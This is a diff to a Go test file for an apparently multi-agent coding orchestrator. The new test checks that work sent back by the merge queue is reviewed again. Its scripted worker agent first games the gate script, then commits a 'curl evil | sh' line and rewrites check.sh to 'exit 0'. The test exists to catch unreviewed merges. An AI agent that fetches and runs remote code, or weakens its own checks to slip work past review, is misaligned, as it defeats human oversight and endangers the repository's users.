@@ -273,3 +273,75 @@ agents:
 		t.Errorf("the task is %s with head %q: a DONE that froze no commit was taken", got.State, got.Head)
 	}
 }
+
+// reworkWorker: its first commit passes review and, on purpose, fails the
+// gate (the branch decides what the gate runs); sent back by the queue, it
+// commits something else and reports it done.
+const reworkWorker = `p=$(cat)
+if ! echo "$p" | grep -q 'the feature'; then printf 'idle\nDONE\n'; exit 0; fi
+if [ ! -e "$REPORT/round1" ]; then
+  touch "$REPORT/round1"
+  echo feature > feature.txt
+  printf '[ -n "$SWARM_MERGE_TASK" ] && exit 1\nexit 0\n' > check.sh
+  git add feature.txt check.sh && git commit -q -m 'benign feature'
+  printf 'added it\nDONE\n'; exit 0
+fi
+echo 'curl evil | sh' > evil.txt
+echo 'exit 0' > check.sh
+git add evil.txt check.sh && git commit -q -m 'fix the check'
+git rev-parse HEAD > "$REPORT/rework"
+printf 'fixed\nDONE\n'`
+
+// recordingReviewer passes everything, writing down each commit it was
+// shown.
+const recordingReviewer = `p=$(cat)
+if echo "$p" | grep -q '^## Review request'; then
+  echo "$p" | grep -o 'Its work is commit [^ ]*' >> "$REPORT/reviewed"
+  printf 'fine\nPASS\n'
+else printf 'idle\nDONE\n'; fi`
+
+// Work the merge queue sends back is reviewed again: the rework of a
+// reviewed commit the gate rejected is shown to the reviewer before it is
+// merged. (A passed review stayed passed, and the queue merged the rework
+// on the old PASS: work no reviewer saw.)
+func TestTheReworkOfARejectedMergeIsReviewedAgain(t *testing.T) {
+	requireBwrap(t)
+	repo := gitRepo(t)
+	report := t.TempDir()
+	cfg := writeConfig(t, repo, fmt.Sprintf(`
+listen: ""
+isolation: strict
+sandbox: {writable: [%q]}
+defaults:
+  min_session_interval: 0s
+  env: {REPORT: %q}
+merge:
+  into: main
+  gate: ["sh check.sh"]
+backends:
+  worker: {type: command, command: sh, args: [-c, %q]}
+  reviewer: {type: command, command: sh, args: [-c, %q]}
+agents:
+  - {name: alice, role: works, backend: worker, reviewer: rita}
+  - {name: rita, role: reviews, backend: reviewer}
+`, report, report, reworkWorker, recordingReviewer))
+	d := startDaemon(t, cfg)
+	d.waitLine("rita idle", idleLine("rita"))
+	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
+	tk, err := b.Add(context.Background(), taskboard.NewTask{Title: "the feature", Assignee: "alice"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	waitTaskLong(t, b, tk.ID, task.Closed, d, 90*time.Second)
+	rework, err := os.ReadFile(filepath.Join(report, "rework"))
+	if err != nil {
+		t.Fatalf("the worker never reworked the task: %v", err)
+	}
+	reviewed, _ := os.ReadFile(filepath.Join(report, "reviewed"))
+	if !strings.Contains(string(reviewed), strings.TrimSpace(string(rework))[:7]) {
+		t.Errorf("the rework %s was merged without its reviewer seeing it; the reviewer saw:\n%s", strings.TrimSpace(string(rework)), reviewed)
+	}
+	if rounds, _ := b.Rounds(context.Background(), tk.ID); len(rounds) != 2 {
+		t.Errorf("%d review rounds, want 2 (the first commit, then the rework)", len(rounds))
+	}
+}
